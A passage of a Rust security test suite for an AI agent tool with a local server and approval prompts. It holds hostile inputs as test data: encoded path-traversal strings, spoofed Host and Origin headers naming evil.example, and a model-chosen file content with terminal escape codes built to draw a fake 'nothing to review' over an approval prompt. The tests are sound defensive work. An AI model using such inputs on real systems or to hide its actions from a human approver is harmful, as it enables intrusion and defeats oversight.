            "POST /api/list_sessions HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nAuthorization: Bearer {}\r\nContent-Length: 100\r\n\r\n{{",
            server.port, server.token
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    // Both connections are open and stay open from the client's side.
    let status = server.sigterm_and_wait().await;
    assert!(status.success(), "{status:?}");
    drop((headers, body));
}

/// Finding 6: a connection that never finishes its headers is closed by the server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_server_closes_connections_that_never_send_headers() {
    use tokio::io::AsyncWriteExt;
    let server = serve(&[], |_| {}).await;
    let mut stream = server.raw().await;
    stream
        .write_all(b"GET / HTTP/1.1\r\nHost: 127.0.0.1")
        .await
        .unwrap();
    let closed = read_to_close(&mut stream, bumblehive::server::HEADER_TIMEOUT * 2).await;
    assert!(closed.is_some(), "the half-sent request was never dropped");
}

/// Finding 6: the token is checked before the body is read: a request without one gets
/// its 401 while its (announced, large) body has not been sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_server_checks_the_token_before_reading_the_body() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let server = serve(&[], |_| {}).await;
    let mut stream = server.raw().await;
    stream
        .write_all(
            format!(
                "POST /api/list_sessions HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nContent-Length: 2000000\r\n\r\n",
                server.port
            )
            .as_bytes(),
        )
        .await
        .unwrap();
    let mut head = [0u8; 12];
    tokio::time::timeout(WAIT, stream.read_exact(&mut head))
        .await
        .expect("no answer before the body was sent")
        .unwrap();
    assert_eq!(&head, b"HTTP/1.1 401");
}

/// Finding 15: a foreign Host (DNS rebinding) or Origin is refused on /api, and every
/// response carries the security headers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_server_checks_host_and_origin_and_sends_security_headers() {
    let server = serve(&[], |_| {}).await;
    let http = reqwest::Client::new();
    let url = format!("{}/api/list_sessions", server.url);
    let good = http
        .post(&url)
        .bearer_auth(&server.token)
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(good.status(), 200);
    let csp = good.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert_eq!(good.headers()["x-content-type-options"], "nosniff");
    assert_eq!(good.headers()["referrer-policy"], "no-referrer");
    let rebound = http
        .post(&url)
        .bearer_auth(&server.token)
        .header("host", format!("evil.example:{}", server.port))
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(rebound.status(), 403);
    let foreign = http
        .post(&url)
        .bearer_auth(&server.token)
        .header("origin", "http://evil.example")
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(foreign.status(), 403);
    let localhost = http
        .post(&url)
        .bearer_auth(&server.token)
        .header("host", format!("localhost:{}", server.port))
        .header("origin", format!("http://localhost:{}", server.port))
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(localhost.status(), 200);
    // The UI's dev server (another loopback port) proxies /api: allowed.
    let dev = http
        .post(&url)
        .bearer_auth(&server.token)
        .header("origin", "http://localhost:5173")
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(dev.status(), 200);
    for foreign in [
        "http://localhost.evil.example",
        "https://127.0.0.1.evil:80",
        "null",
    ] {
        let refused = http
            .post(&url)
            .bearer_auth(&server.token)
            .header("origin", foreign)
            .json(&json!({}))
            .send()
            .await
            .unwrap();
        assert_eq!(refused.status(), 403, "{foreign}");
    }
}

/// Finding 15: `--ui` serves no file through a symlink that leaves its folder.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_server_ui_does_not_follow_links_out() {
    let ui = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(ui.path().join("index.html"), "<html>UI</html>").unwrap();
    std::fs::write(ui.path().join("app.js"), "console.log(1)").unwrap();
    std::fs::write(outside.path().join("secret.txt"), "OUTSIDE-UI-SECRET").unwrap();
    std::os::unix::fs::symlink(outside.path(), ui.path().join("out")).unwrap();
    let server = serve(&["--ui", ui.path().to_str().unwrap()], |_| {}).await;
    let http = reqwest::Client::new();
    let page = http.get(format!("{}/", server.url)).send().await.unwrap();
    assert!(
        page.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("script-src 'self'")
    );
    assert_eq!(page.headers()["x-frame-options"], "DENY");
    assert!(page.text().await.unwrap().contains("UI"));
    let js = http
        .get(format!("{}/app.js", server.url))
        .send()
        .await
        .unwrap();
    assert_eq!(js.text().await.unwrap(), "console.log(1)");
    for path in ["/out/secret.txt", "/out%2fsecret.txt", "/%6fut/secret.txt"] {
        let leaked = http
            .get(format!("{}{path}", server.url))
            .send()
            .await
            .unwrap();
        let text = leaked.text().await.unwrap();
        assert!(!text.contains("OUTSIDE-UI-SECRET"), "{path}: {text}");
    }
}

/// Finding 10: short tokens are refused; the token file is 0600 and replaces (never
/// follows) whatever was at its name.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_server_token_rules() {
    for bad in ["", "1", "short-token"] {
        let dir = tempfile::tempdir().unwrap();
        let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_bumblehive"))
            .arg("--config")
            .arg(dir.path().join("config.json"))
            .arg("--data-dir")
            .arg(dir.path().join("data"))
            .args(["serve", "--port", "0", "--token", bad])
            .kill_on_drop(true)
            .output();
        let out = tokio::time::timeout(WAIT, out)
            .await
            .unwrap_or_else(|_| panic!("--token {bad:?} was accepted: the server is serving"))
            .unwrap();
        assert!(!out.status.success(), "--token {bad:?} was accepted");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("at least 32"),
            "{out:?}"
        );
    }
    let target = tempfile::tempdir().unwrap();
    let planted = target.path().join("planted");
    std::fs::write(&planted, "").unwrap();
    let server = serve(&[], |dir| {
        use std::os::unix::fs::PermissionsExt;
        std::fs::create_dir_all(dir.join("data")).unwrap();
        std::os::unix::fs::symlink(&planted, dir.join("data/server-token")).unwrap();
        std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o666)).unwrap();
    })
    .await;
    let file = server.dir.path().join("data/server-token");
    let meta = std::fs::symlink_metadata(&file).unwrap();
    use std::os::unix::fs::PermissionsExt;
    assert!(meta.is_file(), "the token file is still a symlink");
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), server.token);
    assert_eq!(
        std::fs::read_to_string(&planted).unwrap(),
        "",
        "the token went through the link"
    );
    // Finding 14 (this side): the log folder is private.
    let logs = std::fs::metadata(server.dir.path().join("data/logs")).unwrap();
    assert_eq!(logs.permissions().mode() & 0o777, 0o700);
}

/// Finding 10 with a kept token (D27): a restart reuses the token in the data dir, so
/// open tabs stay signed in, but only from a private regular file of ours: a 0644 file or
/// a symlink there is not trusted (a fresh token replaces it), and `--new-token` rotates.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_server_keeps_its_token_only_from_a_private_file() {
    use std::os::unix::fs::PermissionsExt;
    let mut first = serve(&[], |_| {}).await;
    first.sigterm_and_wait().await;
    let token = first.token.clone();
    let file = first.dir.path().join("data/server-token");
    let again = serve_in(first.dir, &[]).await;
    assert_eq!(again.token, token, "a restart made a new token");
    let listed = reqwest::Client::new()
        .post(format!("{}/api/list_sessions", again.url))
        .bearer_auth(&token)
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(listed.status(), 200, "the kept token is not accepted");

    // A readable-by-others file: its token may be known, so it is not reused.
    let mut again = again;
    again.sigterm_and_wait().await;
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let loose = serve_in(again.dir, &[]).await;
    assert_ne!(loose.token, token, "a 0644 token file was trusted");
    let meta = std::fs::symlink_metadata(&file).unwrap();
    assert!(meta.is_file());
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), loose.token);

    // A symlink to a private file holding a valid token: not followed, not trusted.
    let mut loose = loose;
    loose.sigterm_and_wait().await;
    let elsewhere = tempfile::tempdir().unwrap();
    let planted = elsewhere.path().join("planted");
    let planted_token = "p".repeat(40);
    std::fs::write(&planted, &planted_token).unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::remove_file(&file).unwrap();
    std::os::unix::fs::symlink(&planted, &file).unwrap();
    let linked = serve_in(loose.dir, &[]).await;
    assert_ne!(
        linked.token, planted_token,
        "the token was read through a symlink"
    );
    assert!(std::fs::symlink_metadata(&file).unwrap().is_file());
    assert_eq!(std::fs::read_to_string(&planted).unwrap(), planted_token);

    // `--new-token` rotates a kept, trusted token; the next plain start keeps the new one.
    let mut linked = linked;
    linked.sigterm_and_wait().await;
    let kept = linked.token.clone();
    let rotated = serve_in(linked.dir, &["--new-token"]).await;
    assert_ne!(rotated.token, kept, "--new-token kept the old token");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), rotated.token);
    let mut rotated = rotated;
    rotated.sigterm_and_wait().await;
    let next = rotated.token.clone();
    let plain = serve_in(rotated.dir, &[]).await;
    assert_eq!(plain.token, next);
    // `--token` still wins over the kept one.
    let mut plain = plain;
    plain.sigterm_and_wait().await;
    let given = "g".repeat(48);
    let chosen = serve_in(plain.dir, &["--token", &given]).await;
    assert_eq!(chosen.token, given);
}

/// Finding 9: a model server that redirects to another origin does not get the key sent
/// there (Anthropic's `x-api-key` survives reqwest's own cross-host stripping).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_model_calls_do_not_follow_redirects_to_other_origins() {
    use crate::mock_llm::{MockLlm, MockResponse};
    use crate::providers_openai::{TEST_KEY, generate, provider_config};
    let elsewhere = MockLlm::start().await;
    let first = MockLlm::start().await;
    first.push(
        MockResponse::error(307, "{}")
            .header("location", &format!("{}/v1/messages", elsewhere.url())),
    );
    let provider = bumblehive::providers::provider_from_config(&provider_config(
        "anthropic",
        first.url(),
        "m",
    ))
    .unwrap();
    let request = bumblehive::provider::ModelRequest {
        messages: vec![
            bumblehive::protocol::Message::system("S"),
            bumblehive::protocol::Message::user("m", "hi"),
        ]
        .into(),
        tools: Vec::new().into(),
        settings: bumblehive::provider::ModelSettings {
            model: "m".into(),
            temperature: None,
            max_tokens: None,
            no_images: false,
        },
    };
    let (result, _) = generate(&provider, request).await;
    assert!(result.is_err(), "{result:?}");
    // The call was really made (and answered with the redirect): the test is not passed
    // by a request that never went out.
    let asked = first.requests();
    assert!(
        !asked.is_empty(),
        "the model call never reached the first server"
    );
    assert_eq!(asked[0].header("x-api-key"), Some(TEST_KEY));
    let leaked = elsewhere
        .requests()
        .iter()
        .any(|r| r.header("x-api-key") == Some(TEST_KEY));
    assert!(!leaked, "the key followed the redirect to another origin");
    assert!(elsewhere.requests().is_empty());
}

/// The real `bumblehive run` on `<dir>/config.json` and `<dir>/data`, asking on its
/// terminal (stdin, stdout and stderr piped).
fn spawn_run(dir: &std::path::Path, ws: &std::path::Path, prompt: &str) -> tokio::process::Child {
    tokio::process::Command::new(env!("CARGO_BIN_EXE_bumblehive"))
        .arg("--config")
        .arg(dir.join("config.json"))
        .arg("--data-dir")
        .arg(dir.join("data"))
        .args(["run", "--workspace"])
        .arg(ws)
        .arg(prompt)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap()
}

/// runtime-review C13: `bumblehive run` asking on the terminal falls behind its event
/// stream; an approval request dropped in the lag is found in the snapshot and asked,
/// so the run does not hang. Child A's approval holds the terminal; meanwhile child B
/// asks too and child C floods more events than the stream buffers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_run_answers_approvals_lost_in_a_lag() {
    use crate::mock_llm::{LiveStream, MockLlm, MockResponse, openai};
    use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt};
    type Held = Arc<std::sync::Mutex<std::collections::HashMap<String, LiveStream>>>;
    let held: Held = Default::default();
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().canonicalize().unwrap().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let mock = MockLlm::start().await;
    {
        let held = held.clone();
        mock.respond_with(move |request| {
            let messages = request.body["messages"]
                .as_array()
                .cloned()
                .unwrap_or_default();
            let first = messages
                .iter()
                .find(|m| m["role"] == "user")
                .and_then(|m| m["content"].as_str())
                .unwrap_or("")
                .to_string();
            let answered = messages.last().is_some_and(|m| m["role"] == "tool");
            for child in ["CHILD-A", "CHILD-B", "CHILD-C"] {
                if first.contains(&format!("Task:\n{child}")) {
                    if answered
                        || child == "CHILD-C" && messages.iter().any(|m| m["role"] == "assistant")
                    {
                        return MockResponse::sse(openai::text_answer(
                            &[&format!("{child} done")],
                            (1, 1),
                        ));
                    }
                    if child == "CHILD-A" {
                        return MockResponse::sse(openai::tool_answer(
                            &[("wa", "write_file", json!({"path": "a.txt", "content": "A"}))],
                            (1, 1),
                        ));
                    }
                    let (response, stream) = MockResponse::live();
                    held.lock().unwrap().insert(child.to_string(), stream);
                    return response;
                }
            }
            if messages.iter().any(|m| m["role"] == "assistant") {
                return MockResponse::sse(openai::text_answer(&["parent done"], (1, 1)));
            }
            let calls: Vec<(String, Value)> = ["A", "B", "C"]
                .iter()
                .map(|c| {
                    (
                        format!("d{c}"),
                        json!({"title": format!("child {c}"), "task": format!("CHILD-{c}")}),
                    )
                })
                .collect();
            let calls: Vec<(&str, &str, Value)> = calls
                .iter()
                .map(|(id, args)| (id.as_str(), "sub_agent", args.clone()))
                .collect();
            MockResponse::sse(openai::tool_answer(&calls, (1, 1)))
        });
    }
    let config = json!({"provider": {"kind": "openai", "base_url": format!("{}/v1", mock.url()), "model": "m", "max_retries": 0},
                        "subagents": {"max_concurrent": 4}});
    std::fs::write(dir.path().join("config.json"), config.to_string()).unwrap();
    let mut child = spawn_run(dir.path(), &ws, "ROOT");
    let mut stdin = child.stdin.take().unwrap();
    // stdout is drained all along: only the terminal prompt may hold the printer.
    let mut stdout = child.stdout.take().unwrap();
    tokio::spawn(async move {
        let mut sink = Vec::new();
        let _ = stdout.read_to_end(&mut sink).await;
    });
    let (prompts_tx, mut prompts) = tokio::sync::mpsc::unbounded_channel::<String>();
    let stderr = child.stderr.take().unwrap();
    tokio::spawn(async move {
        let mut lines = tokio::io::BufReader::new(stderr).lines();
        while let Ok(Some(line)) = lines.next_line().await {
            if line.contains("wants to run") {
                let _ = prompts_tx.send(line);
            }
        }
    });
    let long = WAIT * 4;
    let first = tokio::time::timeout(long, prompts.recv())
        .await
        .expect("no first prompt")
        .unwrap();
    assert!(first.contains("a.txt"), "{first}");
    // Waits (bounded) until some history holds `needle`.
    let persisted = |needle: &'static str| {
        let sessions = dir.path().join("data/sessions");
        async move {
            let deadline = tokio::time::Instant::now() + long;
            loop {
                let found = std::fs::read_dir(&sessions)
                    .into_iter()
                    .flatten()
                    .flatten()
                    .any(|e| {
                        std::fs::read_to_string(e.path().join("messages.jsonl"))
                            .is_ok_and(|t| t.contains(needle))
                    });
                if found {
                    return;
                }
                assert!(
                    tokio::time::Instant::now() < deadline,
                    "{needle} never stored"
                );
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
            }
        }
    };
    let release = |name: &str, body: String| {
        let deadline = std::time::Instant::now() + long;
        loop {
            if let Some(stream) = held.lock().unwrap().remove(name) {
                stream.send(body);
                stream.finish();
                return;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "{name} never asked the model"
            );
            std::thread::yield_now();
        }
    };
    // B asks while the terminal is held by A's prompt...
    release(
        "CHILD-B",
        openai::tool_answer(
            &[("wb", "write_file", json!({"path": "b.txt", "content": "B"}))],
            (1, 1),
        ),
    );
    persisted("b.txt").await;
    // ...then C streams more events than the subscription holds, pushing B's request out.
    let pieces: Vec<String> = (0..6000).map(|i| format!("w{i} ")).collect();
    let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
    let mut flood_pieces = pieces.clone();
    flood_pieces.push("FLOOD-END");
    release("CHILD-C", openai::text_answer(&flood_pieces, (1, 1)));
    persisted("FLOOD-END").await;
    stdin.write_all(b"y\n").await.unwrap();
    let second = tokio::time::timeout(long, prompts.recv())
        .await
        .expect("B's approval, lost in the lag, was never asked: the run hangs")
        .unwrap();
    assert!(second.contains("b.txt"), "{second}");
    stdin.write_all(b"y\n").await.unwrap();
    let status = tokio::time::timeout(long, child.wait())
        .await
        .expect("run did not exit")
        .unwrap();
    assert!(status.success(), "{status:?}");
    assert_eq!(std::fs::read_to_string(ws.join("b.txt")).unwrap(), "B");
    assert_eq!(std::fs::read_to_string(ws.join("a.txt")).unwrap(), "A");
}

/// Security finding 13: `bumblehive run` must not print model-chosen control characters
/// raw in its terminal approval prompt (an `ESC[2K ESC[1A` in a file's content could erase
/// lines and draw a fake "nothing to review" above `Approve? [y/N]`). The real binary,
/// a write_file whose content carries escape sequences, answered "n" on stdin.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_run_prompt_shows_control_characters_escaped() {
    use crate::mock_llm::{MockLlm, MockResponse, openai};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().canonicalize().unwrap().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let mock = MockLlm::start().await;
    mock.respond_with(move |request| {
        let messages = request.body["messages"].as_array().cloned().unwrap_or_default();
        if messages.last().is_some_and(|m| m["role"] == "tool") {
            return MockResponse::sse(openai::text_answer(&["done"], (1, 1)));
        }
        MockResponse::sse(openai::tool_answer(
            &[(
                "w",
                "write_file",
                json!({"path": "x.txt", "content": "real\n\u{1b}[2K\u{1b}[1AFAKE: nothing to review\u{7}\n"}),
            )],
            (1, 1),
        ))
    });
    let config = json!({"provider": {"kind": "openai", "base_url": format!("{}/v1", mock.url()), "model": "m", "max_retries": 0}});
    std::fs::write(dir.path().join("config.json"), config.to_string()).unwrap();
    let mut child = spawn_run(dir.path(), &ws, "write it");
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(b"n\n").await.unwrap();
    drop(stdin);
    let mut stdout = child.stdout.take().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let read = async {
        let (a, b) = tokio::join!(stdout.read_to_end(&mut out), stderr.read_to_end(&mut err));
        a.unwrap();
        b.unwrap();
    };
    tokio::time::timeout(WAIT * 4, read)
        .await
        .expect("the run did not end");
    let _ = child.wait().await;
    let err = String::from_utf8_lossy(&err).into_owned();
    assert!(
        err.contains("FAKE: nothing to review"),
        "the prompt shows the content: {err}"
    );
    assert!(
        !err.contains('\u{1b}') && !err.contains('\u{7}'),
        "raw control characters: {err:?}"
    );
    assert!(err.contains("\\u{001b}[2K"), "shown escaped: {err}");
    assert!(!ws.join("x.txt").exists(), "denied, not written");
    // The scripted tool call was the one the prompt showed and the person denied: the
    // model got its denial back (no other request took the scripted turn).
    let bodies = mock.bodies();
    let denied = bodies.iter().any(|body| {
        body["messages"].as_array().is_some_and(|messages| {
            messages
                .iter()
                .any(|m| m["role"] == "tool" && m["tool_call_id"] == "w")
        })
    });
    assert!(denied, "the write_file call was never answered: {bodies:?}");
}

/// UX review E11: a workspace in the home folder, whose home is hidden behind a tmpfs in
/// the sandbox: a write next to the workspace must fail (read-only), not "succeed" into
/// that tmpfs and be lost when the command ends.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_a_write_beside_a_workspace_in_home_fails_loudly() {
    let Some(home) = std::env::var_os("HOME")
        .map(PathBuf::from)
        .filter(|h| h.is_absolute() && h.is_dir() && h != std::path::Path::new("/"))
    else {
        println!("skipped: no home folder");
        return;
    };
    let dir = tempfile::tempdir_in(&home).unwrap();
    let ws = dir.path().canonicalize().unwrap().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let ctx = context(&ws, RecordingGate::new(|_| yes()));
    let command = "echo hi > ../outside.txt; echo rc=$?; echo in > in.txt";
    let out = text(&run(&registry(sandbox()), &ctx, json!({"command": command})).await);
    assert!(
        !out.contains("rc=0"),
        "a lost write looked like a success: {out}"
    );
    assert!(out.contains("Read-only file system"), "{out}");
    assert_eq!(std::fs::read_to_string(ws.join("in.txt")).unwrap(), "in\n");
}
